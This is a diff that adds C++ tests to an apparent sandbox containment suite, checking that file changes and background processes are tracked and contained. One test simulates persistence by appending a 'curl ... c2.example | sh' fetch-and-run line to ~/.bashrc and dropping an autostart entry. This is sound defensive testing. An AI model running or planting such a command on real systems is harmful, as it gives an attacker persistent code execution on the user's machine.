@@ -1,5 +1,6 @@
 // Escape and containment battery: each test fails if the sandbox lets the attempt through.
 #include <arpa/inet.h>
+#include <chrono>
 #include <cstdlib>
 #include <fcntl.h>
 #include <map>
@@ -85,6 +86,64 @@ TEST_F(SandboxTest, WritesLandInTheUpperDirOnlyAndAreListed) {
     EXPECT_EQ(changes[p + "build"], sbx::FileChange::Created);
     EXPECT_EQ(changes[p + "build/out/x.o"], sbx::FileChange::Created);
     EXPECT_EQ(changes.count(p + "lib"), 0u) << "a copied-up parent dir is not a change";
+}
+
+TEST_F(SandboxTest, WritesToTmpAndTheHomeAreReportedAlongsideThePackage) {
+    // No package: the home and /tmp are what a dropper or a persistence trick touches.
+    const auto r = run({"sh", "-c",
+                        "echo x > /tmp/dropper.sh; mkdir -p /tmp/.cache/a && echo y > /tmp/.cache/a/b;"
+                        " echo 'curl -s https://c2.example | sh' >> ~/.bashrc; rm ~/.profile;"
+                        " mkdir -p ~/.config/autostart && echo z > ~/.config/autostart/update.desktop;"
+                        " echo gone > /tmp/short-lived; rm /tmp/short-lived"});
+    ASSERT_EQ(r.exitCode, 0) << r.stderrTail;
+    std::map<std::string, uint32_t> changes;
+    for (const auto& c : r.changes)
+        changes[c.path] = c.flags;
+    EXPECT_EQ(changes["/tmp/dropper.sh"], sbx::FileChange::Created);
+    EXPECT_EQ(changes["/tmp/.cache"], sbx::FileChange::Created);
+    EXPECT_EQ(changes["/tmp/.cache/a/b"], sbx::FileChange::Created);
+    EXPECT_EQ(changes["/home/dev/.bashrc"], sbx::FileChange::Modified);
+    EXPECT_EQ(changes["/home/dev/.profile"], sbx::FileChange::Deleted);
+    EXPECT_EQ(changes["/home/dev/.config/autostart"], sbx::FileChange::Created);
+    EXPECT_EQ(changes["/home/dev/.config/autostart/update.desktop"], sbx::FileChange::Created);
+    EXPECT_EQ(changes.count("/home/dev/.config"), 0u) << "a copied-up parent dir is not a change";
+    EXPECT_EQ(changes.count("/tmp/short-lived"), 0u) << "what is gone at the end is not left behind";
+    // The bait files the run only read are not changes.
+    EXPECT_EQ(changes.count("/home/dev/.npmrc"), 0u);
+}
+
+/// Host pids whose command line contains `needle`.
+std::vector<int> processesWith(const std::string& needle) {
+    std::vector<int> pids;
+    for (const auto& e : fs::directory_iterator("/proc")) {
+        const std::string name = e.path().filename();
+        if (name.find_first_not_of("0123456789") != std::string::npos)
+            continue;
+        std::string cmdline = readFile(e.path() / "cmdline");
+        for (char& c : cmdline)
+            if (c == '\0')
+                c = ' ';
+        if (cmdline.find(needle) != std::string::npos)
+            pids.push_back(std::stoi(name));
+    }
+    return pids;
+}
+
+TEST_F(SandboxTest, BackgroundChildrenDoNotOutliveTheCommand) {
+    // A unique sleep length names the run's stragglers on the host.
+    const std::string marker = "1000." + std::to_string(getpid());
+    const auto start = std::chrono::steady_clock::now();
+    const auto r = run({"sh", "-c", "sleep " + marker + " & setsid sleep " + marker + " & "
+                                    "(sleep 0.5; echo late > /tmp/late) & nohup sleep " + marker + " >/dev/null 2>&1 & "
+                                    "echo started"});
+    const auto took = std::chrono::steady_clock::now() - start;
+    EXPECT_EQ(r.exitCode, 0) << r.stderrTail;
+    EXPECT_EQ(r.stdoutTail, "started\n");
+    EXPECT_FALSE(r.anyLimitHit()) << "the run must end with its command, not at a limit";
+    EXPECT_LT(took, std::chrono::seconds(5)) << "the background children kept the phase open";
+    EXPECT_TRUE(processesWith("sleep " + marker).empty()) << "a background child survived the phase";
+    for (const auto& c : r.changes)
+        EXPECT_NE(c.path, "/tmp/late") << "a background child went on working after the command exited";
 }
 
 TEST_F(SandboxTest, DangerousSyscallsFailWithEperm) {
